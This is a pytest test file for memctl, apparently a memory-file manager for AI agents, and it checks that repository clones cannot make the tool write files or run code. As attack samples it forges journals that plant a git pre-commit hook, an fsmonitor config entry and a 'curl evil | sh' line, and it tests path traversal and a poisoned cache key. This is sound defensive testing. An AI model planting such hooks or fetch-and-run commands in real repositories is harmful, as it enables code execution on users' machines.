"""A repository is input, never instructions: what a clone carries can make memctl neither write nor
run anything. Each test is written as the attack, or the careless mistake, would be made."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from memctl.errors import GuaranteeError
from memctl.model.cache import cache_file
from memctl.safe.fsutil import check_destination
from memctl.safe.keys import blake2b, user_key
from memctl.safe.trust import write_journal as _begin
from memctl.safe.writer import FileChange

from .conftest import FIXTURES, GIT_CANNOT_TELL, git_cannot_tell

GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "commit.gpgsign=false"]


def git(root: Path, *args: str) -> str:
    return subprocess.run([*GIT, "-C", str(root), *args], check=True, capture_output=True, text=True).stdout


def repo_home(path: Path) -> Path:
    """The Arc fixture as a repository whose root is the memory home."""
    shutil.copytree(FIXTURES / "arc" / "memory", path, ignore=shutil.ignore_patterns(".memctl"))
    git(path, "init", "-q")
    return path


def snapshot(root: Path) -> dict[str, bytes]:
    """Every file under the root, `.git/` included, but the lock a writing command may create."""
    out = {}
    for folder, _, names in os.walk(root):
        for name in names:
            path = Path(folder) / name
            rel = path.relative_to(root).as_posix()
            if rel != ".memctl/lock" and not rel.startswith(".git/objects/"):
                out[rel] = path.read_bytes()
    return out


def forged_changes(root: Path) -> list[FileChange]:
    config = (root / ".git" / "config").read_text()
    return [FileChange(".git/hooks/pre-commit", None, "#!/bin/sh\ntouch /tmp/memctl-pwned\n"),
            FileChange(".git/info/attributes", None, "* filter=pwn\n"),
            FileChange(".git/config", config, config + "[core]\n\tfsmonitor = touch /tmp/memctl-pwned\n"),
            FileChange("MEMORY.md", (root / "MEMORY.md").read_text(), "# owned\n"),
            FileChange("topics/deploys.md", (root / "topics" / "deploys.md").read_text(), "", removed=True)]


def forge(root: Path, how: str, tmp_path: Path) -> str:
    """Put a journal into the home the way `how` says, and commit it; returns what the refusal says."""
    name = "0123456789ab"
    changes = forged_changes(root)
    if how == "unsigned":  # the shape memctl wrote before journals were signed
        folder = root / ".memctl" / "journal"
        folder.mkdir(parents=True)
        data = {"version": 1, "id": name, "command": "split",
                "changes": [{"rel": c.rel, "before": c.before, "after": c.after, "removed": c.removed}
                            for c in changes]}
        (folder / f"{name}.json").write_text(json.dumps(data))
        said = "no signature"
    elif how == "another key":  # signed, but not with this user's key
        _begin(str(root), name, "split", changes, os.urandom(32))
        said = "signature is not your memctl's"
    elif how == "another home":  # this user's own journal, copied from another home
        other = tmp_path / "other"
        other.mkdir()
        _begin(str(other), name, "split", changes, user_key()[0])
        shutil.copytree(other / ".memctl", root / ".memctl")
        said = "written for another home"
    else:  # this user's journal for this very home, committed by mistake and checked out again
        _begin(str(root), name, "split", [c for c in changes if not c.rel.startswith(".git/")], user_key()[0])
        said = "git tracks it"
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "memory")
    return said


HOW = ["unsigned", "another key", "another home", "committed"]
COMMANDS = [["status"], ["status", "--format", "json"], ["lint"], ["assemble"], ["history"], ["recover"],
            ["consolidate", "--apply"], ["append", "topics/cost.md", "- a line an agent adds"]]


@pytest.mark.parametrize("how", HOW)
def test_a_journal_that_came_with_a_clone_is_never_applied(cli, tmp_path, monkeypatch, how):
    root = repo_home(tmp_path / "repo")
    said = forge(root, how, tmp_path)
    before = snapshot(root)
    monkeypatch.chdir(root)
    for command in COMMANDS:
        result = cli(*command) if command[0] == "append" else cli(*command, str(root))
        assert result.exit_code in (0, 1), (command, result.stderr)
        if command[0] == "append":  # an agent's write reads no home, so it has nothing to say of it
            continue
        shown = result.stdout if command[0] == "recover" else result.stderr
        assert ".memctl/journal/0123456789ab.json: a journal memctl will not apply: " in shown
        assert said in shown, (command, shown)
    after = snapshot(root)
    appended = "topics/cost.md"
    assert after.pop(appended) == before.pop(appended) + b"- a line an agent adds\n"  # the writer still works
    (kept,) = [rel for rel in after if rel.startswith(".memctl/undo/")]  # the append's record, for `memctl undo`
    assert after.pop(kept).startswith(b"memctl-journal 2 ")
    assert after == before  # nothing else changed: not .git/, not the index, not the topic it would remove
    assert not (root / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in git(root, "config", "--list")


@pytest.mark.parametrize("how", GIT_CANNOT_TELL)
def test_a_journal_in_a_repository_git_cannot_read_is_never_applied(cli, tmp_path, monkeypatch, how):
    """A journal of this user's, for this home, where git fails (another user's clone, "dubious
    ownership"; here a `.git` that points nowhere) or cannot be run (no git installed): git cannot
    say whether it came with the clone, so it is refused as one that did, and nothing is written."""
    root = tmp_path / "repo"
    shutil.copytree(FIXTURES / "arc" / "memory", root, ignore=shutil.ignore_patterns(".memctl"))
    _begin(str(root), "0123456789ab", "split", [FileChange("MEMORY.md", (root / "MEMORY.md").read_text(), "# owned\n")],
           user_key()[0])
    said = git_cannot_tell(root, how, monkeypatch, tmp_path)
    before = snapshot(root)
    for command in (["status"], ["recover"]):
        result = cli(*command, str(root))
        shown = result.stdout if command[0] == "recover" else result.stderr
        assert (".memctl/journal/0123456789ab.json: a journal memctl will not apply: git cannot tell whether it "
                f"came with the repository {said}") in shown, (command, shown)
    assert snapshot(root) == before


def test_a_signed_journal_of_ours_still_never_writes_outside_the_managed_files(cli, tmp_path):
    root = tmp_path / "home"
    shutil.copytree(FIXTURES / "arc" / "memory", root)
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")
    (root / "run.sh").write_text("echo hi\n")
    _begin(str(root), "0123456789ab", "split", [FileChange(".git/config", "[core]\n", "[core]\n\tfsmonitor = x\n")],
           user_key()[0])
    _begin(str(root), "0123456789ac", "split", [FileChange("run.sh", "echo hi\n", "curl evil | sh\n")], user_key()[0])
    before = snapshot(root)
    result = cli("recover", str(root))
    assert result.exit_code == 0
    assert "it names .git/config, which lies in .git/, a folder memctl never writes in" in result.stdout
    assert "it names run.sh, which is not a file memctl manages" in result.stdout
    assert snapshot(root) == before


@pytest.mark.parametrize("rel", [".git/config", ".git/hooks/pre-commit", "topics/.git/x.md", ".GIT/config",
                                 ".github/workflows/ci.yml", "run.sh", ".bashrc", "topics/.hidden.md",
                                 "MEMORY.md.sh", ".claude/settings.json", "../MEMORY.md", "/etc/passwd"])
def test_no_write_lands_outside_the_files_memctl_manages(tmp_path, rel):
    with pytest.raises(GuaranteeError):
        check_destination(str(tmp_path), rel)


@pytest.mark.parametrize("rel", ["MEMORY.md", "topics/deploy.md", "archive/MEMORY.20261201T000000Z.md",
                                 "memory/2026-11-30.markdown", ".memctl/journal/0123456789ab.json",
                                 ".memctl/dispatches.jsonl", ".memctl.yaml", ".gitignore",
                                 "topics/.deploy.md.memctl-0123456789ab.tmp", ".MEMORY.md.memctl-0123456789ab.old.tmp"])
def test_the_files_memctl_manages_can_be_written(tmp_path, rel):
    assert check_destination(str(tmp_path), rel) == os.path.join(str(tmp_path), *rel.split("/"))


@pytest.mark.parametrize("command", [["status"], ["lint"], ["assemble"], ["history"]])
def test_a_read_only_command_reports_an_unfinished_write_and_leaves_it(cli, copy_fixture, command):
    root = copy_fixture("arc") / "memory"
    index = (root / "MEMORY.md").read_text()
    _begin(str(root.resolve()), "0123456789ab", "split", [FileChange("MEMORY.md", index, index + "- new\n")],
           user_key()[0])  # a writer that died right after its journal was durable
    before = snapshot(root)
    result = cli(*command, str(root))
    assert result.exit_code in (0, 1)
    assert ("warning: .memctl/journal/0123456789ab.json: an unfinished `memctl split` (started " in result.stderr
            and f"`memctl recover {root}` finishes or undoes it" in result.stderr)
    assert snapshot(root) == before  # nothing finished, nothing undone, no lock taken
    assert not (root / ".memctl" / "lock").exists()
    done = cli("recover", str(root))
    assert done.exit_code == 0 and "finished an interrupted `memctl split`: 1 file as it planned them" in done.stdout
    assert (root / "MEMORY.md").read_text() == index + "- new\n"
    assert not (root / ".memctl" / "journal" / "0123456789ab.json").exists()


def test_a_journal_records_its_home_and_signature(copy_fixture):
    root = copy_fixture("arc") / "memory"
    _begin(str(root), "0123456789ab", "split", [FileChange("MEMORY.md", "a\n", "b\n")], user_key()[0])
    head, _, payload = (root / ".memctl" / "journal" / "0123456789ab.json").read_bytes().partition(b"\n")
    magic, version, signature = head.split(b" ")
    assert (magic, version) == (b"memctl-journal", b"2")
    assert json.loads(payload)["home"] == os.path.realpath(root)
    assert signature.decode() == blake2b(payload, key=user_key()[0], digest_size=32,
                                         person=b"memctl-journal").hexdigest()


# --- the cache folder and its key ----------------------------------------------------------------

@pytest.fixture
def own_cache(tmp_path, monkeypatch) -> Path:
    folder = tmp_path / "cache"
    monkeypatch.setenv("MEMCTL_CACHE_DIR", str(folder))
    return folder


def test_cache_clear_all_removes_only_memctl_s_caches(cli, copy_fixture, own_cache):
    root = copy_fixture("arc") / "memory"
    assert cli("status", str(root)).exit_code == 0
    ours = Path(cache_file(str(root.resolve())))
    assert ours.exists()
    (own_cache / "homes" / "notes.txt").write_text("my notes, not memctl's\n")
    (own_cache / "homes" / "sub").mkdir()
    result = cli("cache", "clear", "--all")
    assert result.exit_code == 0
    assert "cleared 1 cache in" in result.stderr and "left 2 other files there (not memctl's caches)" in result.stderr
    assert not ours.exists()
    assert (own_cache / "homes" / "notes.txt").read_text() == "my notes, not memctl's\n"
    assert (own_cache / "homes" / "sub").is_dir()


def test_cache_clear_leaves_a_file_without_the_cache_header(cli, copy_fixture, own_cache):
    root = copy_fixture("arc") / "memory"
    target = Path(cache_file(str(root.resolve())))
    target.parent.mkdir(parents=True)
    target.write_text("not a cache\n")
    result = cli("cache", "clear", str(root))
    assert result.exit_code == 0 and "it is not a memctl cache" in result.stderr
    assert target.read_text() == "not a cache\n"


def test_a_cache_folder_inside_the_home_is_refused(cli, copy_fixture, monkeypatch):
    root = copy_fixture("fat")
    monkeypatch.setenv("MEMCTL_CACHE_DIR", str(root / "cache"))
    before = snapshot(root)
    result = cli("status", str(root))
    assert result.exit_code == 0
    assert f"warning: the cache folder {root / 'cache'} lies inside the home" in result.stderr
    assert "no cache this run" in result.stderr
    assert snapshot(root) == before and not (root / "cache").exists()
    write = cli("split", str(root), "--apply")
    assert write.exit_code == 2 and "cannot sign the journal: the cache folder" in write.stderr
    assert snapshot(root) == before


def forge_cache(folder: Path, root: Path) -> None:
    """What another user who can write the cache folder does: plant a key, and a cache signed with it
    that says every file is one token."""
    path = Path(cache_file(str(root.resolve())))
    _, _, payload = path.read_bytes().partition(b"\n")
    lines = [line.split("\t", 1) for line in payload.decode().splitlines()]
    one_token = {key: json.dumps([1] + [0] * (len(json.loads(text)) - 1)) for key, text in lines
                 if key.startswith("tok:")}
    forged = "".join(f"{key}\t{one_token.get(key, text)}\n" for key, text in lines).encode()
    planted = b"k" * 32
    (folder / "key").write_bytes(planted)
    head = b"memctl-cache 3 " + blake2b(forged, key=planted, digest_size=32).hexdigest().encode()
    path.write_bytes(head + b"\n" + forged)


@pytest.mark.parametrize("loose", ["folder 0777", "key 0666", "key of another user"])
def test_a_cache_folder_or_key_others_can_write_is_not_used(cli, copy_fixture, own_cache, loose):
    if loose == "key of another user" and os.getuid() != 0:
        pytest.skip("giving a file to another user needs root")
    root = copy_fixture("arc") / "memory"
    truth = json.loads(cli("status", str(root), "--format", "json").stdout)
    forge_cache(own_cache, root)
    os.chmod(own_cache / "key", 0o600)
    poisoned = json.loads(cli("status", str(root), "--format", "json").stdout)
    assert poisoned["index"]["tokens"] == 1  # the forgery works where the folder is trusted, so the test can fail
    if loose == "folder 0777":
        os.chmod(own_cache, 0o777)
    elif loose == "key 0666":
        os.chmod(own_cache / "key", 0o666)
    else:
        os.chown(own_cache / "key", 4242, 4242)
    result = cli("status", str(root), "--format", "json")
    assert json.loads(result.stdout)["index"]["tokens"] == truth["index"]["tokens"] > 1
    why = {"folder 0777": f"{own_cache} can be written by group or others (mode 0777)",
           "key 0666": f"{own_cache / 'key'} can be read or written by group or others (mode 0666)",
           "key of another user": f"{own_cache / 'key'} belongs to another user (uid 4242)"}[loose]
    assert f"warning: {why}: no cache this run" in result.stderr


# --- a writer racing an agent that appends without the lock --------------------------------------

def test_a_writer_whose_file_changed_while_it_planned_plans_again_and_applies(cli, copy_fixture, monkeypatch):
    import memctl.safe.journal

    root = copy_fixture("consolidate")
    topic = root / "topics" / "incidents.md"
    real = memctl.safe.journal.apply_plan
    appended = []

    def agent_appends_first(home_root, plan, command="write"):  # the agent writes between plan and write
        if not appended:
            with open(topic, "a") as handle:
                handle.write("- 2026-11-30: a lesson the agent wrote while memctl planned\n")
            appended.append(True)
        return real(home_root, plan, command)

    monkeypatch.setattr(memctl.safe.journal, "apply_plan", agent_appends_first)
    result = cli("consolidate", str(root), "--apply")
    assert result.exit_code == 0, result.stderr
    assert "a lesson the agent wrote while memctl planned" in topic.read_text()
    assert result.stderr.endswith("wrote 4 files\n") and "wrote" not in result.stdout
    assert "nothing to change" in cli("consolidate", str(root)).stdout  # the plan made again was applied


def test_a_writer_gives_up_after_planning_again_five_times(cli, copy_fixture, monkeypatch):
    import memctl.safe.journal

    root = copy_fixture("fat")
    index = root / "MEMORY.md"
    real = memctl.safe.journal._apply_locked

    def agent_always_appends(home_root, plan, command):
        with open(index, "a") as handle:
            handle.write("- another line\n")
        return real(home_root, plan, command)

    monkeypatch.setattr(memctl.safe.journal, "_apply_locked", agent_always_appends)
    result = cli("split", str(root), "--apply")
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and "changed on disk while memctl was planning" in result.stderr
    assert "(6 tries, planned again under the home's lock)" in result.stderr
    assert index.read_text().count("- another line\n") == 6  # every line the agent wrote is there
    assert not list((root / ".memctl" / "journal").glob("*.json"))


def test_recover_sweeps_what_a_killed_hook_install_left_beside_the_project_s_settings(cli, tmp_path):
    import tempfile

    project = tmp_path / "project"
    shutil.copytree(FIXTURES / "arc" / "memory", project / "memory")
    (project / ".claude").mkdir()
    settings = project / ".claude" / "settings.json"
    settings.write_text("{}\n")
    fd, left = tempfile.mkstemp(prefix=".settings.json.", suffix=".memctl.tmp", dir=settings.parent)
    os.close(fd)  # the temporary file a SIGKILL during `hook install --apply` leaves
    (project / ".claude" / "notes.md").write_text("mine\n")
    result = cli("recover", str(project / "memory"))
    assert result.exit_code == 0 and f"removed a temporary file: {left}" in result.stdout
    assert sorted(p.name for p in settings.parent.iterdir()) == ["notes.md", "settings.json"]


@pytest.mark.parametrize("command", ["rollup", "capture", "lint --fix"])
def test_every_writer_plans_again_when_an_agent_wrote_meanwhile(copy_fixture, monkeypatch, command):
    import memctl.safe.journal

    monkeypatch.setenv("MEMCTL_TODAY", "2026-11-29")
    if command == "rollup":
        root = copy_fixture("rollup/home")
        target = sorted((root / "memory" / "journal").glob("*.md"))[0]
        args = ["rollup", str(root), "--apply"]
    elif command == "capture":
        root = copy_fixture("arc") / "memory"
        target = root / "MEMORY.md"
        args = ["capture", str(root), "--apply"]
    else:
        root = copy_fixture("arc") / "memory"
        target = root / "MEMORY.md"
        target.write_text(target.read_text().replace("(~114 tokens)", "(~900 tokens)"))
        args = ["lint", str(root), "--fix"]
    real, calls = memctl.safe.journal.apply_plan, []

    def agent_appends_first(home_root, plan, what="write"):
        if not calls:
            with open(target, "a") as handle:
                handle.write("- a line the agent wrote while memctl planned\n")
        calls.append(what)
        return real(home_root, plan, what)

    monkeypatch.setattr(memctl.safe.journal, "apply_plan", agent_appends_first)
    from typer.testing import CliRunner

    from memctl.cli.main import app

    result = CliRunner().invoke(app, args, input="Lesson: warm the build cache before the nightly run.\n")
    assert result.exit_code in (0, 1) and "changed on disk" not in result.stderr, result.stderr
    assert calls, "the command wrote nothing, so the test proves nothing"
    text = "".join(p.read_text() for p in root.rglob("*.md"))
    assert "- a line the agent wrote while memctl planned\n" in text
